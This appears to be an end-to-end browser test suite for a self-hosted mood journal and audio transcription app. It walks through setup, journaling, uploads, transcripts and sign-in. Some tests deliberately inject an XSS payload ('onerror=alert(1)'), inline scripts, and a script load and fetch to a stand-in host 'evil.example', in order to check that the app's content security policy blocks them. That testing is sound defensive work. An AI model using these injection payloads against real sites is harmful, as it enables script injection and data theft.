// The main job, by the browser, against the real binary: set up, note, write, record, read, leave and come back.
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { inspect, launch, watch, type Watched } from './browser';
import { samples, startServer, type Server } from './server';

const email = 'ada@example.org';
const password = 'a walk before breakfast';
const sample = join(samples, 'two_cities.wav');

let server: Server;
let browser: Browser;
let watched: Watched;
let page: Page;

const button = (name: string | RegExp) => page.getByRole('button', { name, exact: typeof name === 'string' });
const field = (name: string, on: Page | ReturnType<Page['getByRole']> = page) => on.getByRole('textbox', { name });
const heading = (name: string | RegExp) => page.getByRole('heading', { level: 1, name }).waitFor();
const rail = (name: string) => page.getByRole('navigation', { name: 'Places' }).first().getByRole('link', { name }).click();
const looks = async (name: string) => expect(await inspect(page, name)).toEqual([]);

async function signIn(on: Page): Promise<void> {
  await field('E-mail', on).fill(email);
  await field('Password', on).fill(password);
  await on.getByRole('button', { name: 'Sign in', exact: true }).click();
}

beforeAll(async () => {
  if (!existsSync(sample)) throw new Error(`There is no ${sample}. Run \`make test\`, which fetches it, or set SAMPLES_DIR.`);
  server = await startServer();
  browser = await launch();
  watched = await watch(browser, server.url);
  page = watched.page;
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

afterEach((context) => {
  if (context.task.result?.state === 'fail') console.log(server.output().split('\n').slice(-20).join('\n'));
  expect(watched.faults).toEqual([]);
  expect(watched.violations).toEqual([]);
});

test('a new server asks for its owner, with a code from the terminal', async () => {
  await page.goto('/');
  await heading('Make it yours');
  expect(page.url()).toMatch(/\/setup$/);
  await looks('setup');
  await field('One-time code').fill('AAAA-AAAA-AAAA');
  await field('Name').fill('Ada');
  await field('E-mail').fill(email);
  const secret = field('Password');
  await secret.fill('short');
  await button(/owner's account/).click();
  await page.getByText('too short or too simple').waitFor();
  await secret.fill(password);
  await button(/owner's account/).click();
  await page.getByRole('alert').waitFor();
  await field('One-time code').fill(server.code);
  await button(/owner's account/).click();
  await heading(/^Good .*, Ada$/);
  expect(new URL(page.url()).pathname).toBe('/');
  await looks('today-empty');
});

test('a mood is one tap, then words if one likes', async () => {
  await button('Bright').click();
  await page.getByText('Saved on this server').waitFor();
  await page.getByText('Bright, noted at').waitFor();
  await button('Undo').click();
  await page.getByText('Taken back.').waitFor();
  await button('Light').click();
  await page.getByText('This server:').waitFor();
  await field('Note').fill('Slept well, and the walk helped.');
  await field('Tags').fill('sleep, garden');
  await page.getByText('Not saved yet').waitFor();
  await looks('today-mood');
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Control+Enter');
  await page.getByText('Kept. Come back').waitFor();
  await page.getByTestId('trend-caption').getByText('You noted 1 mood on 1 day out of 14.').waitFor();
  await button('Show as a table').click();
  await page.getByRole('cell', { name: 'Light' }).waitFor();
  await button('Show as a picture').click();
  await looks('today');
});

test('a reflection says where it goes before it is typed, and is there after a reload', async () => {
  await page.getByRole('link', { name: 'Write a reflection' }).click();
  await heading('New reflection');
  expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('H1');
  await page.getByText('sealed under your own key').waitFor();
  await field('Title').fill('After the rain');
  await field('Your words').fill('The garden smelled of earth.\n\nمرحبا بالعالم\n<img src=x onerror=alert(1)>');
  await looks('reflection-new');
  await rail('Journal');
  await page.getByText('Leave without saving?').waitFor();
  await button('Keep writing').click();
  await page.keyboard.press('Control+s');
  await page.getByText('Saved on this server').waitFor();
  await page.waitForURL(/\/journal\/[0-9a-f-]{36}$/);
  await page.reload();
  await heading('After the rain');
  expect(await field('Your words').inputValue()).toContain('onerror=alert(1)');
  await looks('reflection');
  await rail('Journal');
  await page.getByText('The garden smelled of earth.').waitFor();
  await page.getByText('Slept well').waitFor();
  await looks('journal');
  await page.getByText('Reflections', { exact: true }).click();
  expect(await page.getByText('Slept well').count()).toBe(0);
  await page.getByText('Everything', { exact: true }).click();
});

test('a mood is changed, deleted and brought back', async () => {
  await button(/Change the mood Light/).click();
  await field('Note', page.getByRole('dialog')).fill('Slept very well.');
  await looks('mood-edit');
  await button('Save').click();
  await page.getByText('Slept very well.').waitFor();
  await button(/Change the mood Light/).click();
  await button('Delete').click();
  await page.getByText('Mood deleted.').waitFor();
  expect(await page.getByText('Slept very well.').count()).toBe(0);
  await button('Undo').click();
  await page.getByText('Slept very well.').waitFor();
});

test('two versions of one reflection: both are shown and both are kept', async () => {
  await page.getByRole('link', { name: /After the rain/ }).click();
  await heading('After the rain');
  const other = await watched.context.newPage();
  await other.goto(page.url());
  await field('Your words', other).fill('Written elsewhere.');
  await other.getByRole('button', { name: 'Save', exact: true }).click();
  await other.getByText('Saved on this server').waitFor();
  await other.close();
  await field('Your words').fill('Written here.');
  await button('Save').click();
  await page.getByText('There are two versions').waitFor();
  await page.getByRole('dialog').getByText('Written elsewhere.').waitFor();
  await looks('conflict');
  await page.keyboard.press('Escape');
  await heading('After the rain (my version)');
  await rail('Journal');
  await page.getByText('Written elsewhere.').waitFor();
  await page.getByText('Written here.').waitFor();
  await page.getByRole('link', { name: /my version/ }).click();
  await button('Delete').click();
  await page.getByText('Reflection deleted.').waitFor();
  await button('Undo').click();
  await page.getByText('Written here.').waitFor();
});

test('a session that ends in the middle of writing keeps the words', async () => {
  await page.getByRole('link', { name: 'New reflection' }).click();
  await field('Your words').fill('Half a sentence');
  await watched.context.clearCookies();
  await button('Save').click();
  await page.getByText('Your session has ended.').waitFor();
  await page.keyboard.press('Escape');
  await page.getByText('Not saved: needs you').waitFor();
  await button('Save').click();
  await page.getByText('Your session has ended.').waitFor();
  await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('type'))).toBe('password');
  await looks('sign-in-again');
  await field('Password', page.getByRole('dialog')).fill(password);
  await page.getByRole('dialog').getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.getByText('Saved on this server').waitFor();
  expect(await field('Your words').inputValue()).toBe('Half a sentence');
});

test('a wrong file is refused in words', async () => {
  await rail('Recordings');
  await page.getByText('No recordings yet').waitFor();
  await looks('recordings-empty');
  const text = join(tmpdir(), `mindvibe-e2e-${process.pid}.wav`);
  await writeFile(text, 'this is no sound');
  await page.getByTestId('file').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('x') });
  await page.getByText('this kind of file is not taken').waitFor();
  await page.getByTestId('file').setInputFiles(text);
  await page.getByText('That kind of file is not taken here.').waitFor();
  await looks('recordings-refused');
  await button('Dismiss').click();
});

test('an upload shows how far it is and can be cancelled', async () => {
  const network = await watched.context.newCDPSession(page);
  await network.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: 150_000 });
  await page.getByTestId('file').setInputFiles(sample);
  const bar = page.getByRole('progressbar', { name: /Sending/ });
  await bar.waitFor();
  await expect.poll(() => bar.evaluate((node) => (node as HTMLProgressElement).value)).toBeGreaterThan(0);
  await button(/Cancel sending/).click();
  await page.getByText('No recordings yet').waitFor();
  await network.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: -1 });
  await network.detach();
  await page.reload();
  await page.getByText('No recordings yet').waitFor();
});

test('a recording becomes a transcript', async () => {
  await page.getByTestId('file').setInputFiles(sample);
  const entry = page.getByRole('link', { name: /two_cities/ });
  await entry.waitFor({ timeout: 60_000 });
  await entry.click();
  await heading(/two_cities/);
  await page.getByTestId('transcript').waitFor({ timeout: 150_000 });
  const text = (await page.getByTestId('transcript').innerText()).toLowerCase();
  expect(text).toContain('best of times');
  await looks('recording');
});

/** What the browser's player thinks, for the log of a run in which it stood still. */
const player = () =>
  page.getByTestId('audio').evaluate((node) => {
    const audio = node as HTMLAudioElement;
    const buffered = Array.from({ length: audio.buffered.length }, (_, part) => [audio.buffered.start(part), audio.buffered.end(part)]);
    const { currentTime, paused, seeking, readyState, networkState, error } = audio;
    return JSON.stringify({ currentTime, paused, seeking, readyState, networkState, error: error?.message, buffered, page: document.visibilityState });
  });

// The browser's player was seen once to stand still for half a minute, and never in hundreds of tries since.
test('one reads along while it plays', async () => {
  await page.reload();
  await page.getByTestId('transcript').waitFor();
  const word = page.locator('[data-word="12"]');
  const start = Number(await word.getAttribute('data-start'));
  await word.click();
  const at = () => page.getByTestId('audio').evaluate((audio) => (audio as HTMLAudioElement).currentTime);
  await expect.poll(at, { timeout: 10_000 }).toBeCloseTo(start, 1);
  await expect.poll(() => page.locator('.word.spoken').getAttribute('data-word')).toBe('12');
  await page.keyboard.press('l');
  await expect.poll(at).toBeCloseTo(start + 5, 1);
  await page.keyboard.press('j');
  await expect.poll(at).toBeCloseTo(start, 1);
  await page.locator('h1').click();
  await page.keyboard.press('Space');
  await button('Pause').waitFor();
  const spoken = async () => Number(await page.locator('.word.spoken').getAttribute('data-word'));
  try {
    await expect.poll(spoken, { timeout: 30_000 }).toBeGreaterThan(12);
  } catch (stood) {
    console.log(`the player stood still: ${await player()}`);
    throw stood;
  }
  await page.keyboard.press('Space');
  await button('Play').waitFor();
});

test('a recording is given a name of its own', async () => {
  await button('Rename').click();
  await field('Name of the recording').fill('A Tale of Two Cities');
  await button('Save').click();
  await heading('A Tale of Two Cities');
});

test('the transcript can be taken along', async () => {
  for (const [format, sign] of [['txt', /best of times/i], ['srt', /00:00:\d\d,\d{3} --> 00:00/], ['vtt', /^WEBVTT/], ['json', /"segments"/]] as const) {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: format, exact: true }).click()]);
    expect(download.suggestedFilename().endsWith(`.${format}`)).toBe(true);
    expect(await readFile(await download.path(), 'utf8')).toMatch(sign);
  }
  await button('Delete').click();
  await page.getByText('Recording deleted.').waitFor();
  await button('Undo').click();
  await page.getByText('Ready to read').waitFor();
  await looks('recordings');
});

test('nothing that opens the account lies where a script can read it (A1-C3)', async () => {
  const cookies = await watched.context.cookies();
  const sid = cookies.find(({ name }) => name === '__Host-sid');
  expect(sid).toMatchObject({ httpOnly: true, secure: true, path: '/' });
  const readable = await page.evaluate(async () => ({
    cookie: document.cookie,
    local: JSON.stringify(localStorage),
    session: JSON.stringify(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
  }));
  expect(JSON.stringify(readable)).not.toContain(sid?.value ?? 'no session');
  expect(readable).toMatchObject({ local: '{}', session: '{}', databases: [], caches: [] });
  expect(readable.cookie).not.toMatch(/sid|token=|bearer/i);
});

test('what an attacker could inject does not run (A1-H3)', async () => {
  const attacks = await page.evaluate(async () => {
    const ran: string[] = [];
    const mark = (name: string) => ((globalThis as Record<string, unknown>)[`ran_${name}`] = () => ran.push(name));
    ['inline', 'onerror', 'style', 'source'].forEach(mark);
    const attempt = (work: () => void) => {
      try {
        work();
      } catch {
        // Refused by Trusted Types: just as good.
      }
    };
    attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'ran_inline()';
      document.body.append(script);
    });
    attempt(() => (document.body.appendChild(document.createElement('div')).innerHTML = '<img src="/x" onerror="ran_onerror()">'));
    attempt(() => document.body.appendChild(document.createElement('img')).setAttribute('onerror', 'ran_onerror()'));
    attempt(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    });
    const styled = document.body.appendChild(document.createElement('p'));
    styled.setAttribute('style', 'position: fixed');
    attempt(() => {
      const sheet = document.createElement('style');
      sheet.textContent = 'body { display: none }';
      document.head.append(sheet);
    });
    const elsewhere = await fetch('https://evil.example/').then(() => 'sent', () => 'blocked');
    await new Promise((done) => setTimeout(done, 300));
    return { ran, position: getComputedStyle(styled).position, display: getComputedStyle(document.body).display, elsewhere };
  });
  expect(attacks).toEqual({ ran: [], position: 'static', display: 'block', elsewhere: 'blocked' });
  expect(watched.violations.length).toBeGreaterThan(3);
  watched.violations.length = 0;
  watched.faults.length = 0;
  await page.goto('/');
});

test('leaving and coming back', async () => {
  await heading(/^Good /);
  await rail('Account');
  await heading('Account');
  await page.getByText('Owner of this server').waitFor();
  await looks('account');
  // Other addresses are the server's, and answer 404 without a page; inside the client there is one that leads back.
  expect((await page.request.get('/nowhere')).status()).toBe(404);
  await page.evaluate(() => {
    history.pushState(null, '', '/journal/not/there');
    dispatchEvent(new PopStateEvent('popstate'));
  });
  await heading('There is nothing here');
  await looks('not-found');
  await rail('Account');
  await button('Sign out').click();
  await page.getByText('You are signed out.').waitFor();
  expect((await watched.context.cookies()).filter(({ name }) => name === '__Host-sid')).toEqual([]);
  await looks('sign-in');
  await field('E-mail').fill(email);
  await field('Password').fill('not the password');
  await button('Sign in').click();
  await page.getByText('Invalid email or password').waitFor();
  await page.getByRole('link', { name: 'Create an account' }).click();
  await heading('Create an account');
  await looks('sign-up');
  await page.goto('/journal');
  await heading('Welcome back');
  await signIn(page);
  await heading('Journal');
  await page.getByText('Half a sentence').waitFor();
});
